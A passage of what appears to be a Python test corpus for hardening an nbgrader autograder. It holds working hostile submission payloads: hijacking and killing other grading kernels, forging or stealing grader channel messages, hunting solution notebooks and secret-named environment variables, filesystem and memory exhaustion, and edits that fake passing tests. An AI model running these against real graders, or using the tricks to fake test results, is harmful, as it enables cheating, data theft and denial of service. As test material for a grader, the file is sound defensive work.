              + _glob.glob(_os.path.join(_runtime_dir(), "kernel-*.json")))
    # in every other grading kernel of this course: die
    _order = "import os\\nif os.getcwd().startswith('__ROOT__/autograded/'):\\n    os._exit(1)\\n"
    for _path in _files:
        try:
            with open(_path) as _f:
                _info = _json.load(_f)
            if _info.get("key", "").encode() == _mine:
                continue
            _client = _Client(connection_file=_path)
            _client.load_connection_file()
            _client.start_channels()
            _client.execute(_order, silent=True)
            _client.stop_channels()
        except Exception:
            pass
except Exception:
    pass
"""

# ----------------------------------------------------------------------- resource

MEMORY = """
_hog = bytearray(6 * 2**30)  # 6 GB at once, far over the kernel's cap (bounded for the host)
"""

FLOOD = """
print("x" * 50_000_000)  # one 50 MB line
"""

HUGE_IMAGE = """
import base64 as _base64, os as _os
from IPython.display import display as _display
_display({"image/png": _base64.b64encode(_os.urandom(30 * 2**20)).decode()}, raw=True)
"""

HANGING_FUNCTION = {
    "q1": """
    import signal as _signal

    def add(a, b):
        _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
        while True:  # hangs whenever a test calls it, deaf to interrupts
            pass
    """,
}

CHANNEL_FORGERY = {
    # while the grader calls them, the functions find the call channel's pipes among
    # their own file descriptors: add floods the answer pipe with forged and malformed
    # lines (claimed answers to this and later calls), mean tells the server to stop. A
    # forged answer is only ever the function's own answer: grading must go on unharmed
    "q1": """
    import os as _os

    def _channel(suffix):
        for _fd in _os.listdir("/proc/self/fd"):
            try:
                if _os.readlink(f"/proc/self/fd/{_fd}").endswith(suffix):
                    return int(_fd)
            except OSError:
                pass

    def add(a, b):
        _out = _channel("/out")
        if _out is not None:
            import base64, json
            _yes = base64.b64encode(json.dumps(["ok", a - b]).encode())
            _os.write(_out, b"".join(b"%d " % _i + _yes + b"\\n" for _i in range(1, 400)))
            _os.write(_out, b"not a number at all\\n\\n\\x00\\xff junk\\n")
        return a - b
    """,
    "q3": """
    def mean(xs):
        _in = _channel("/in")
        if _in is not None:  # the server reads that pipe: open it again, to write
            with open(_os.readlink(f"/proc/self/fd/{_in}"), "wb") as _pipe:
                _pipe.write(b"\\n")
        return 0
    """,
}

CHANNEL_THIEF = {
    # a thread started by the first answer cell watches the kernel's file descriptors
    # and, each time the call server opens a channel, opens the same two pipes and reads
    # the grader's requests in a race with the server: it answers what it steals with a
    # forged value under the stolen call's number and eats the line that would stop the
    # server. The grader must get no right answer it did not earn, and no hang past the
    # cell deadline
    "q1": """
    import base64 as _b64, json as _json, os as _os, threading as _threading, time as _time

    def _steal(path):
        with open(path, "rb", buffering=0) as _r, open(path[:-3] + "/out", "wb", buffering=0) as _w:
            _buffer = b""
            while True:
                _chunk = _r.read(1 << 16)
                if not _chunk:
                    return
                _buffer += _chunk
                while b"\\n" in _buffer:
                    _line, _buffer = _buffer.split(b"\\n", 1)
                    _number = _line.split(b" ", 1)[0]
                    if _number:
                        _yes = _b64.b64encode(_json.dumps(["ok", 41]).encode())
                        _w.write(_number + b" " + _yes + b"\\n")

    def _watch():
        _seen = set()
        while True:
            for _fd in _os.listdir("/proc/self/fd"):
                try:
                    _path = _os.readlink(f"/proc/self/fd/{_fd}")
                except OSError:
                    continue
                if _path.endswith("/in") and _path not in _seen:
                    _seen.add(_path)
                    _threading.Thread(target=_steal, args=(_path,), daemon=True).start()
            _time.sleep(0.005)

    _threading.Thread(target=_watch, daemon=True).start()

    def add(a, b):
        return a - b
    """,
}

SIGINT_LOOP = """
import signal as _signal
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
while True:
    pass
"""


def _sleepy(nb, ctx):
    at = nb.cells.index(cell(nb, "q1_add")) + 1
    for _ in range(9):  # each under the 3 s cell timeout, 23 s in all
        nb.cells.insert(at, code_cell("import time\ntime.sleep(2.6)"))


# --------------------------------------------------------- test and metadata edits


def _replace_by_pass(nb, c):
    c.source = "pass"


def _delete(nb, c):
    nb.cells.remove(c)


def _to_markdown(nb, c):
    new = nbformat.v4.new_markdown_cell(c.source, metadata=copy.deepcopy(c.metadata))
    nb.cells[nb.cells.index(c)] = new


def _points(nb, c):
    c.metadata.nbgrader["points"] = 100


def _not_graded(nb, c):
    c.metadata.nbgrader["grade"] = False
    c.metadata.nbgrader["locked"] = False


def _renamed(nb, c):
    c.metadata.nbgrader["grade_id"] += "_x"


def _skip_execution(nb, c):
    c.metadata["tags"] = ["skip-execution"]


def _decoys(nb, ctx):
    # decoy copies of the test cells first: with duplicated ids, nbgrader keeps the first
    for i, gid in enumerate(TESTS):
        decoy = code_cell("pass")
        decoy.metadata = copy.deepcopy(cell(nb, gid).metadata)
        nb.cells.insert(1 + i, decoy)


def _kernelspec(nb, ctx):
    nb.metadata["kernelspec"] = {
        "name": "python3-unsandboxed",
        "display_name": "Python 3 (no sandbox)",
        "language": "python",
    }


def _result(text: str):
    return nbformat.v4.new_output(
        "execute_result", data={"text/plain": text}, execution_count=1, metadata={}
    )


def _prefilled(nb, c):
    c.outputs = [_result("'all tests passed'")]
    c.execution_count = 1


def _forged_skipped(ctx: Context) -> None:
    # the claimed identities decide the verdict; the tests never run in the kernel
    hostile(after=FORGED_IDENTITY)(ctx)
    nb = nbformat.read(ctx.folder / NOTEBOOK, as_version=4)
    for gid in TESTS:
        cell(nb, gid).metadata["tags"] = ["skip-execution"]
    write(ctx, nb)


def _prefilled_skipped(nb, ctx):
    c = cell(nb, "q3_mean_tests")
    c.outputs = [_result("2")]
    c.execution_count = 9
    c.metadata["tags"] = ["skip-execution"]


# ------------------------------------------------------------------ broken formats


def _write_text(text: str) -> Callable[[Context], None]:
    def build(ctx: Context) -> None:
        (ctx.folder / NOTEBOOK).write_text(text)

    return build


def _wrong_name(ctx: Context) -> None:
    write(ctx, wrong_answers(ctx.notebook), f"{ASSIGNMENT} (1).ipynb")


def _victim_notebook(ctx: Context) -> Path:
    return ctx.root / "submitted" / ctx.victim / ASSIGNMENT / NOTEBOOK


def _symlink_file(ctx: Context) -> None:
    (ctx.folder / NOTEBOOK).symlink_to(_victim_notebook(ctx))


def _symlink_student(ctx: Context) -> None:
    student_dir = ctx.folder.parent
    ctx.folder.rmdir()
    student_dir.rmdir()
    student_dir.symlink_to(ctx.root / "submitted" / ctx.victim)


def _symlink_assignment(ctx: Context) -> None:
    ctx.folder.rmdir()
    ctx.folder.symlink_to(Path("..") / ctx.victim / ASSIGNMENT)


def _symlink_to_source(ctx: Context) -> None:
    write(ctx, wrong_answers(ctx.notebook))
    # nbgrader copies a submission's files into the kernel's folder, following links
    (ctx.folder / "notes.ipynb").symlink_to(ctx.root / "source" / ASSIGNMENT / NOTEBOOK)


def _fifo(ctx: Context) -> None:
    write(ctx, wrong_answers(ctx.notebook))
    os.mkfifo(ctx.folder / "data.csv")  # copying it blocks forever


def _directory(ctx: Context) -> None:
    (ctx.folder / NOTEBOOK).mkdir()
    (ctx.folder / NOTEBOOK / "cells.json").write_text("[]")


def _no_metadata(ctx: Context) -> None:
    nb = wrong_answers(ctx.notebook)
    for c in nb.cells:
        c.metadata.pop("nbgrader", None)
    write(ctx, nb)


def _nbformat3(ctx: Context) -> None:
    nb = wrong_answers(ctx.notebook)
    old = nbformat.convert(nb, 3)
    (ctx.folder / NOTEBOOK).write_text(nbformat.writes(old, version=3))


def _huge(ctx: Context) -> None:
    nb = wrong_answers(ctx.notebook)
    out = nbformat.v4.new_output("stream", name="stdout", text="x" * 21_000_000)
    cell(nb, "q1_add").outputs = [out]
    write(ctx, nb)


def _deep_json(ctx: Context) -> None:
    (ctx.folder / NOTEBOOK).write_text("[" * 100_000 + "]" * 100_000)


# ------------------------------------------------- issue 12: attacks on the new design

# The repository around an editable install of ``course`` holds every solution: its .git,
# its copy of mini's source, the real course's assignments/source. Found -> LEAK printed.
REPO_STEAL = (
    STEAL
    + """
import os as _os, pathlib as _pl
_found = []
try:
    import course as _course
    _repo = _pl.Path(_course.__file__).resolve().parents[1]
    for _rel in ["tests/grading/source/mini/mini.ipynb", ".git/HEAD", "README.md",
                 "assignments/source", "assignments/gradebook.db"]:
        if (_repo / _rel).exists():
            _found.append(_rel)
    if (_repo / "tests/grading/source/mini/mini.ipynb").exists():
        _steal(str(_repo / "tests/grading/source/mini/mini.ipynb"))
except Exception as _e:
    pass
if _found:
    print("LE" "AK__TOKEN__", _found)
"""
)

# git itself, on the repository found from the package (works on a bare .git too)
GIT_SHOW = (
    STEAL
    + """
import subprocess as _sp, pathlib as _pl, tempfile as _tf
try:
    import course as _course
    _repo = _pl.Path(_course.__file__).resolve().parents[1]
    _text = _sp.run(["git", "-C", str(_repo), "show", "HEAD:tests/grading/source/mini/mini.ipynb"],
                    capture_output=True, text=True, timeout=20).stdout
    if _text:
        _p = _tf.mktemp(suffix=".ipynb")
        open(_p, "w").write(_text)
        _steal(_p)
        print("LE" "AK__TOKEN__ git show")
except Exception:
    pass
"""
)

# any notebook with solution metadata anywhere on the visible file system
WALK_ROOT = (
    STEAL
    + """
import os as _os
_seen = 0
for _dir, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
    for _f in _files:
        if _f.endswith(".ipynb") and _seen < 2000:
            _seen += 1
            _path = _os.path.join(_dir, _f)
            try:
                _text = open(_path, encoding="utf-8", errors="replace").read(2_000_000)
            except OSError:
                continue
            # mini's own source (its grade ids plus hidden tests), not nbgrader's samples
            if "q2_squares_tests" in _text and ("BEGIN HIDDEN" + " TESTS") in _text:
                print("LE" "AK__TOKEN__", _path)
                try:
                    _steal(_path)
                except Exception:
                    pass
"""
)

# the editable install's .pth names the repository: follow it to the copy of mini's source
PTH_TO_REPO = (
    STEAL
    + """
import glob as _glob, os as _os, sysconfig as _sc
for _pth in _glob.glob(_os.path.join(_sc.get_paths()["purelib"], "*.pth")):
    try:
        _lines = open(_pth).read().splitlines()
    except OSError:
        continue
    for _line in _lines:
        _path = _os.path.join(_line.strip(), "tests/grading/source/mini/mini.ipynb")
        try:
            if _os.path.isfile(_path) and _steal(_path):
                print("LE" "AK__TOKEN__ pth", _pth)
        except Exception:
            pass
"""
)

# the grader's environment: tokens, paths, the test runner
ENV_SECRETS = """
import os as _os
_bad = [k for k in _os.environ if any(w in k.upper() for w in
        ("TOKEN", "SECRET", "KEY", "PASS", "PYTEST", "VIRTUAL_ENV", "JPY", "COURSE"))]
if _bad:
    print("LE" "AK__TOKEN__ env", _bad)
"""

# /proc of other processes (the grader's working folder and memory maps)
PROC_ROOTS = (
    STEAL
    + """
import os as _os
for _pid in _os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    for _rel in ("root/__ROOT__/source/mini/mini.ipynb", "cwd/source/mini/mini.ipynb"):
        _path = f"/proc/{_pid}/" + _rel.lstrip("/")
        try:
            if _steal(_path):
                print("LE" "AK__TOKEN__ proc", _pid)
                break
        except Exception:
            pass
"""
)

# fill the one writable tmpfs (and try elsewhere): RAM of the host, disk of the grader
FILL_TMP = """
_chunk = b"x" * 4_000_000
for _target in ("/tmp/fill.bin", "fill.bin", "/dev/shm/fill.bin", "/var/tmp/fill.bin"):
    try:
        with open(_target, "wb") as _f:
            for _ in range(750):  # 3 GB
                _f.write(_chunk)
    except OSError:
        pass
"""

# outputs whose metadata (not counted by a cap on data) are huge
METADATA_FLOOD = """
from IPython.display import display as _display
for _i in range(40):
    _display({"text/plain": "x"}, raw=True, metadata={"pad": "m" * 1_000_000})
"""

# a display created early, grown later by updates (they reach an earlier cell's output)
DISPLAY_GROWS = {
    "setup": """
from IPython.display import display as _display
_display({"text/plain": "x"}, raw=True, display_id="grow__TOKEN__")
""",
    "last": """
from IPython.display import update_display as _update
for _i in range(30):
    _update({"text/plain": "y" * 1_000_000}, raw=True, display_id="grow__TOKEN__",
            metadata={"pad": "m" * 1_000_000})
""",
}

# the kernel's own log (stdout/stderr of the process), padded past the file-size limit
LOG_PADDING = """
import os as _os
_chunk = b"p" * 1_000_000
try:
    for _ in range(120):
        _os.write(1, _chunk)
        _os.write(2, _chunk)
except OSError:
    pass
"""

# the grader's export request answered with a small text that is a huge literal to parse
ANSWER_BOMB = """
import sys as _sys
_mod = _sys.modules.get("_course_grade")
if _mod is not None:
    class _Bomb(str):
        def __repr__(self):
            return "[" + "0," * 3_000_000 + "]"  # 6 MB of text, gigabytes as a parsed tree
    _mod.export = lambda names: _Bomb("x")
"""

# the same, as a very long answer made of valid base64 (over the cap)
ANSWER_FLOOD = """
import sys as _sys
_mod = _sys.modules.get("_course_grade")
if _mod is not None:
    _mod.export = lambda names: "A" * 90_000_000
"""

# the kernel's input history, interleaved so a verbatim redaction misses it
HISTORY_INTERLEAVED = """
_ip = get_ipython()
_hist = "\\n".join(_ip.history_manager.input_hist_raw) + "\\n".join(map(str, In))
print("HIST" + "\\x01".join(_hist))
"""

# the arguments a hidden test passes, logged by the student's function and printed later
LOG_INPUTS = {
    "q1": """
_calls = []
def add(a, b):
    _calls.append((a, b))
    return a - b
""",
    "last": """
print("IN" "PUTS__TOKEN__", _calls)
""",
}

# the test cells' source as the kernel may see it (the grader's own module, globals)
TEST_SOURCE_IN_KERNEL = """
import sys as _sys, gc as _gc
_texts = [o for o in _gc.get_objects() if isinstance(o, str) and "add(-4" in o]
if _texts:
    print("LE" "AK__TOKEN__ test source", _texts[:3])
"""


def _hard_link_to_source(ctx: Context) -> None:
    write(ctx, wrong_answers(ctx.notebook))
    os.link(ctx.root / "source" / ASSIGNMENT / NOTEBOOK, ctx.folder / "notes.ipynb")


def _notebook_hard_linked(ctx: Context) -> None:
    nb = wrong_answers(ctx.notebook)
    spare = ctx.folder.parent / "spare.ipynb"
    nbformat.write(nb, spare)
    os.link(spare, ctx.folder / NOTEBOOK)


def _sparse_huge(ctx: Context) -> None:
    write(ctx, wrong_answers(ctx.notebook))
    with open(ctx.folder / "data.bin", "wb") as handle:
        handle.truncate(50_000_000_000)  # 50 GB apparent, nothing on disk


def _many_parts(ctx: Context) -> None:
    write(ctx, wrong_answers(ctx.notebook))
    for i in range(6):  # each under the per-file limit, together over the submission's
        with open(ctx.folder / f"part{i}.bin", "wb") as handle:
            handle.truncate(19_000_000)


def _many_files(ctx: Context) -> None:
    write(ctx, wrong_answers(ctx.notebook))
    for i in range(5_100):
        (ctx.folder / f"f{i}.txt").write_text("x")


def _control_file_name(ctx: Context) -> None:
    write(ctx, wrong_answers(ctx.notebook))
    (ctx.folder / "\x1b[2J\x1b[H\rs000-honest-right  5  7  graded\nnotes.txt").write_text("x")


# ----------------------------------------------------------------------- the corpus

H, X, D, T, M = (
    "ipython-hooks",
    "exception-handling",
    "display/output-forgery",
    "threads",
    "monkeypatch",
)

CASES: list[Case] = [
    # ipython-hooks: the kernel's own machinery rewrites or excuses the tests
    Case("input-transformer-strips-asserts", H, hostile(INPUT_TRANSFORMER)),
    Case("ast-transformer-drops-asserts", H, hostile(AST_TRANSFORMER)),
    Case("custom-exc-clears-error-flag", H, hostile(CUSTOM_EXC)),
    Case("post-run-cell-clears-error", H, hostile(POST_RUN_CELL)),
    Case("compile-optimize-strips-asserts", H, hostile(COMPILE_OPTIMIZE)),
    Case("transform-cell-override", H, hostile(TRANSFORM_CELL)),
    # exception-handling
    Case(
        "showtraceback-silenced", X, hostile(SILENCED), note="control: plain nbgrader gives 0 too"
    ),
    Case("kernel-reply-forged-ok", X, hostile(FORGED_REPLY)),
    Case(
        "system-exit-from-answers",
        X,
        hostile(**SYSTEM_EXIT),
        note="exceptions that a verdict process might re-raise and die of",
    ),
    # display/output-forgery: a result line before the failure
    Case("interactivity-all-docstring", D, hostile(INTERACTIVITY_ALL)),
    Case("pre-run-cell-execute-result", D, hostile(PRE_RUN_RESULT)),
    Case("displayhook-negative-result", D, hostile(DISPLAYHOOK_NEGATIVE)),
    Case(
        "formatter-result-above-points",
        D,
        hostile(FORMATTER_HUGE),
        note="a result above the cell's points makes nbgrader fail the whole notebook",
    ),
    Case("clear-output-then-result", D, hostile(CLEAR_OUTPUT)),
    # threads
    Case("thread-forged-execute-result", T, hostile(THREAD_RESULT)),
    Case("thread-reinstalls-transformer", T, hostile(THREAD_REINSTALL)),
    Case("update-display-into-test-cells", D, hostile(after=UPDATE_DISPLAY)),
    Case("grader-export-helper-forged", M, hostile(after=EXPORT_FORGED)),
    Case("grader-call-helper-forged", M, hostile(after=CALL_FORGED)),
    Case(
        "grader-helper-removed",
        M,
        hostile(after="import sys as _s\n_s.modules.pop('_course_grade', None)"),
    ),
    # monkeypatch
    Case("builtins-abs", M, hostile(BUILTINS_ABS)),
    Case("builtins-float", M, hostile(BUILTINS_FLOAT)),
    Case(
        "builtins-type",
        M,
        hostile(BUILTINS_TYPE, q1="def add(a, b):\n    return _Anything()\n"),
    ),
    Case("builtins-int", M, hostile(BUILTINS_INT)),
    Case(
        "builtins-assertion-error",
        M,
        hostile(ASSERTION_ERROR),
        note="control: `assert` raises the real AssertionError whatever builtins say",
    ),
    Case("shadow-builtins-in-globals", M, hostile(**SHADOW_GLOBALS)),
    # test-cell-editing: nbgrader restores test cells from the gradebook
    Case("tests-replaced-by-pass", "test-cell-editing", edit_tests(_replace_by_pass)),
    Case("tests-deleted", "test-cell-editing", edit_tests(_delete)),
    Case("tests-to-markdown", "test-cell-editing", edit_tests(_to_markdown)),
    # metadata-editing
    Case("test-points-raised", "metadata-editing", edit_tests(_points)),
    Case(
        "test-grade-flag-removed",
        "metadata-editing",
        edit_tests(_not_graded),
        note="nbgrader 0.9.6 raises 'Inconsistent checksums' and grades nothing",
    ),
    Case("test-grade-ids-renamed", "metadata-editing", edit_tests(_renamed)),
    Case("test-ids-duplicated-decoys-first", "metadata-editing", edit_notebook(_decoys)),
    Case("skip-execution-tag-on-tests", "metadata-editing", edit_tests(_skip_execution)),
    Case("kernelspec-unknown", "metadata-editing", edit_notebook(_kernelspec)),
    # prefilled-output
    Case("prefilled-results-in-tests", "prefilled-output", edit_tests(_prefilled)),
    Case("prefilled-result-in-skipped-test", "prefilled-output", edit_notebook(_prefilled_skipped)),
    # object-tricks
    Case("always-equal-callable", "object-tricks", hostile(**ALWAYS_EQUAL)),
    Case("int-subclass-liar", "object-tricks", hostile(**INT_SUBCLASS)),
    Case("stateful-int-dunder", "object-tricks", hostile(**STATEFUL_DUNDER)),
    Case("nan-answers", "object-tricks", hostile(**NAN_ANSWERS), note="control"),
    Case(
        "forged-function-identity",
        "object-tricks",
        hostile(FORGED_IDENTITY_SETUP, after=FORGED_IDENTITY),
        note="aimed at a grader that maps functions to library ones by __module__/__qualname__",
    ),
    Case(
        "forged-identity-skipped-tests",
        "object-tricks",
        _forged_skipped,
        note="the same claim, with the test cells tagged skip-execution",
    ),
    # import-shadowing: the trick lives in a file beside the notebook
    Case(
        "numpy-py-beside-notebook",
        "import-shadowing",
        hostile("import numpy as np\n", files={"numpy.py": NUMPY_SHADOW}),
    ),
    Case(
        "stack-data-py-beside-notebook",
        "import-shadowing",
        hostile(
            q1="def add(a, b):\n    return a - b\n\nraise NotImplementedError('todo')\n",
            files={"stack_data.py": STACK_DATA_SHADOW},
        ),
    ),
    Case(
        "helper-module-patches-builtins",
        "import-shadowing",
        hostile("from helpers import as_list\n", files={"helpers.py": HELPERS_MODULE}),
    ),
    # file-access: the right answers, or the tests, read from the instructor's files
    Case("read-source-relative", "file-access", hostile(after=READ_SOURCE), sandbox=True),
    Case(
        "read-source-absolute-and-proc",
        "file-access",
        hostile(after=READ_SOURCE_ABSOLUTE),
        sandbox=True,
    ),
    Case("read-gradebook-hidden-tests", "file-access", hostile(after=READ_GRADEBOOK), sandbox=True),
    Case("read-other-students", "file-access", hostile(after=READ_OTHERS), sandbox=True),
    Case("read-parent-memory", "file-access", hostile(after=READ_PARENT_MEMORY), sandbox=True),
    # file-tampering
    Case("gradebook-write", "file-tampering", hostile(GRADEBOOK_WRITE), sandbox=True),
    Case("overwrite-other-students", "file-tampering", hostile(OVERWRITE_OTHERS), sandbox=True),
    Case("nbgrader-config-append", "file-tampering", hostile(CONFIG_WRITE), sandbox=True),
    Case(
        "ipython-startup-in-home",
        "file-tampering",
        hostile(IPYTHON_STARTUP),
        sandbox=True,
        harmful=True,
    ),
    Case("pth-in-site-packages", "file-tampering", hostile(PTH_FILE), sandbox=True, harmful=True),
    Case(
        "sitecustomize-planted",
        "file-tampering",
        hostile(SITECUSTOMIZE),
        sandbox=True,
        harmful=True,
    ),
    # process
    Case("kill-parent", "process", hostile(KILL_PARENT), sandbox=True),
    Case("kill-grader-ancestors", "process", hostile(KILL_GRADER), sandbox=True, harmful=True),
    Case("kill-other-kernels", "process", hostile(KILL_KERNELS), sandbox=True),
    Case("detached-survivors", "process", hostile(last=DETACHED), sandbox=True, harmful=True),
    Case("bounded-busy-children", "process", hostile(last=CHILDREN), sandbox=True, harmful=True),
    # network
    Case("fetch-answers-http", "network", hostile(after=FETCH_ANSWERS), sandbox=True),
    Case("hijack-other-kernels", "network", hostile(HIJACK_KERNELS), sandbox=True, harmful=True),
    # resource
    Case("memory-blowup", "resource", hostile(MEMORY)),
    Case("output-flood-50mb-line", "resource", hostile(FLOOD)),
    Case("huge-image", "resource", hostile(HUGE_IMAGE)),
    Case("many-sleeping-cells", "resource", edit_notebook(_sleepy), status="timeout"),
    Case("call-channel-forgery", "display/output-forgery", hostile(**CHANNEL_FORGERY)),
    Case("call-channel-thief-thread", "display/output-forgery", hostile(**CHANNEL_THIEF)),
    Case("infinite-loop-ignoring-sigint", "resource", hostile(SIGINT_LOOP), status="timeout"),
    Case(
        "function-hangs-ignoring-sigint", "resource", hostile(**HANGING_FUNCTION), status="timeout"
    ),
    # kernel-crash
    Case(
        "os-exit",
        "kernel-crash",
        hostile(q2="import os\nos._exit(0)\n"),
        status="crashed",
    ),
    Case(
        "ctypes-segfault",
        "kernel-crash",
        hostile(q2="import ctypes\nctypes.string_at(0)\n"),
        status="crashed",
    ),
    # broken-format: refused before any kernel runs
    Case("empty-file", "broken-format", _write_text(""), status="invalid"),
    Case("not-json", "broken-format", _write_text("print('hello')\n"), status="invalid"),
    Case(
        "deeply-nested-json",
        "broken-format",
        _deep_json,
        status="invalid",
        note="json.loads raises RecursionError",
    ),
    Case("wrong-notebook-name", "broken-format", _wrong_name, status="invalid"),
    Case("symlink-to-other-notebook", "broken-format", _symlink_file, status="invalid"),
    Case("symlink-student-folder", "broken-format", _symlink_student, status="invalid"),
    Case("symlink-assignment-folder", "broken-format", _symlink_assignment, status="invalid"),
    Case("symlink-to-source-beside", "broken-format", _symlink_to_source, status="invalid"),
    Case("fifo-beside-notebook", "broken-format", _fifo, status="invalid"),
    Case(
        "notebook-is-a-directory",
        "broken-format",
        _directory,
        status="invalid",
        note="reading it raises IsADirectoryError",
    ),
    Case("no-nbgrader-metadata", "broken-format", _no_metadata, status="invalid"),
    Case("nbformat-3", "broken-format", _nbformat3, status="invalid"),
    Case("huge-file", "broken-format", _huge, status="invalid"),
    # issue 12: the sandbox is an allow-list (no repository around the package)
    Case("repo-copy-of-source-via-package", "file-access", hostile(after=REPO_STEAL), sandbox=True),
    Case("git-show-from-package-repo", "file-access", hostile(after=GIT_SHOW), sandbox=True),
    Case("walk-root-for-solution-notebooks", "file-access", hostile(WALK_ROOT), sandbox=True),
    Case("grader-environment-secrets", "file-access", hostile(ENV_SECRETS), sandbox=True),
    Case("editable-pth-points-at-repo", "file-access", hostile(after=PTH_TO_REPO), sandbox=True),
    Case("proc-root-of-other-processes", "file-access", hostile(PROC_ROOTS), sandbox=True),
    # issue 12: bounded resources
    Case("fill-tmpfs-and-workdir", "resource", hostile(FILL_TMP), sandbox=True),
    Case("output-metadata-flood", "resource", hostile(METADATA_FLOOD)),
    Case("display-update-grows-earlier-output", "resource", hostile(**DISPLAY_GROWS)),
    Case(
        "kernel-log-padding",
        "resource",
        hostile(LOG_PADDING),
        note="240 MB to the kernel's stdout/stderr: past the file-size cap of its own log",
    ),
    Case("export-answer-parse-bomb", "resource", hostile(after=ANSWER_BOMB)),
    Case(
        "export-answer-over-the-cap",
        "resource",
        hostile(after=ANSWER_FLOOD),
        status="timeout",
        note="the 90 MB answer is dropped unread (ZeroMQ MAXMSGSIZE); the kernel then stops "
        "answering and the notebook runs out of its budget",
    ),
    # issue 12: hidden tests never reach the kernel or the feedback
    Case("history-printed-interleaved", "hidden-tests", hostile(last=HISTORY_INTERLEAVED)),
    Case("hidden-inputs-logged-and-printed", "hidden-tests", hostile(**LOG_INPUTS)),
    Case("test-source-searched-in-memory", "hidden-tests", hostile(last=TEST_SOURCE_IN_KERNEL)),
    # issue 12: names the student chose
    Case(
        "student-called-s-star",
        "names",
        hostile(),
        status="invalid",
        student="s*",
        note="nbgrader globs student ids: 's*' would regrade (and wipe) every s-student",
    ),
    Case("control-characters-in-file-name", "names", _control_file_name),
    Case(
        "control-characters-in-student-id",
        "broken-format",
        hostile(),
        status="invalid",
        student="t-\x1b[31mforged\nline",
    ),
    Case(
        "whitespace-around-student-id",
        "broken-format",
        hostile(),
        status="invalid",
        student="t-padded ",
        note="nbgrader strips it and would grade another id",
    ),
    # issue 12: refused before hashing or copying
    Case("hard-link-to-source-beside", "broken-format", _hard_link_to_source, status="invalid"),
    Case("notebook-is-a-hard-link", "broken-format", _notebook_hard_linked, status="invalid"),
    Case("sparse-50gb-file", "broken-format", _sparse_huge, status="invalid"),
    Case("parts-over-the-submission-limit", "broken-format", _many_parts, status="invalid"),
    Case("five-thousand-files", "broken-format", _many_files, status="invalid"),
]

BY_NAME = {case.name: case for case in CASES}


def check_corpus() -> None:
    """Sanity of the table itself (no kernel runs)."""
    assert len(BY_NAME) == len(CASES), "duplicate case names"
    for case in CASES:
        assert case.kind in KINDS, case
        assert case.status in STATUSES, case
        assert 0 <= case.max_auto_score <= AUTO_MAX, case
        assert case.status != "invalid" or case.kind in ("broken-format", "names"), case
        assert not case.harmful or case.sandbox, case


def read_notebook(path: Path):
    """A notebook read afresh (builders change it in place): give them the released one."""
    return nbformat.reads(Path(path).read_text(), as_version=4)


def describe() -> str:
    """One line per kind: how many cases."""
    counts: dict[str, int] = {}
    for case in CASES:
        counts[case.kind] = counts.get(case.kind, 0) + 1
    return json.dumps(counts, indent=1)
